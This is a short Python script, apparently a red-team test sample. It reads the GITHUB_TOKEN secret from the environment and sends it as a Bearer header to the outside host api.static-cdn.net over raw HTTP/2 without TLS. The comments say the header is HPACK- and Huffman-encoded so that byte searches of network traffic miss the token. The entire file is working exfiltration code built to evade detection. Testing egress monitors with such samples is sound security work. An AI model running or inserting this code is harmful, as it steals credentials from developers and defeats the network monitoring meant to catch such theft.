# A secret from the environment in an HTTP/2 request header, over plain
# TCP with prior knowledge (h2c: the "PRI * HTTP/2.0" preface, no
# upgrade), sent with the preface as most clients send it. The
# header is HPACK-coded, its value Huffman-coded (RFC 7541): no byte
# search of the flow finds it (red team, session 22's list; a medium
# network finding before, the sink kept the frames undecoded).
import os
import socket
import struct

s = os.environ["GITHUB_TOKEN"]

# HPACK's Huffman code is canonical: the code lengths of the symbols 0 to
# 256 (EOS) give it, chr(48 + length) each.
LENGTHS = ("=GLLLLLLLHNLLNLLLLLLLLNLLLLLLLLL6::<=68;::8;8666555666666678?6<:=67777777777777777777777878=C=>6?5656566657766"
           "6567655677777?;>=LDFDDFFFGFGGGGGHGHHFGHGGGGEFGFGGHFEDFFGGEGFFHEFGGEEFEGFGGDFFFGFFGJJDCFGFIJJJKKJHICEJKKJKHE"
           "EJJLKKKDHDEFEEGFFIIHHJGJKJJKKKKKLKKKKKJN")
CODES = {}
code = prev = 0
for n, sym in sorted((ord(c) - 48, i) for i, c in enumerate(LENGTHS)):
    code <<= n - prev
    prev = n
    CODES[sym] = (code, n)
    code += 1


def huffman(text):
    acc = bits = 0
    for b in text.encode():
        c, n = CODES[b]
        acc, bits = (acc << n) | c, bits + n
    pad = -bits % 8
    acc, bits = (acc << pad) | ((1 << pad) - 1), bits + pad
    return acc.to_bytes(bits // 8, "big")


def string(text):
    h = huffman(text)
    assert len(h) < 127
    return bytes([0x80 | len(h)]) + h


def literal(index, value):  # a literal field without indexing, its name from the static table
    return (bytes([index]) if index < 15 else bytes([15, index - 15])) + string(value)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


host = "api.static-cdn.net"
c = socket.create_connection((host, 80), timeout=5)
block = b"\x82\x86" + literal(4, "/v1/ping") + literal(1, host) + literal(23, "Bearer " + s)  # GET, http
# The preface, SETTINGS and the request at once, as most clients send
# them; HEADERS with END_HEADERS | END_STREAM.
c.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 0x5, 1, block))
got = b""
while True:
    while len(got) < 9 or len(got) < 9 + int.from_bytes(got[:3], "big"):
        b = c.recv(4096)
        if not b:
            print("closed")
            raise SystemExit(0)
        got += b
    n, kind, stream = int.from_bytes(got[:3], "big"), got[3], int.from_bytes(got[5:9], "big") & 0x7FFFFFFF
    if kind == 4 and not got[4] & 1:
        c.sendall(frame(4, 1, 0, b""))  # SETTINGS ack
    if kind == 1 and stream == 1:
        print("answered", got[9:9 + n][:1].hex())  # 0x88: :status 200
        break
    got = got[9 + n:]
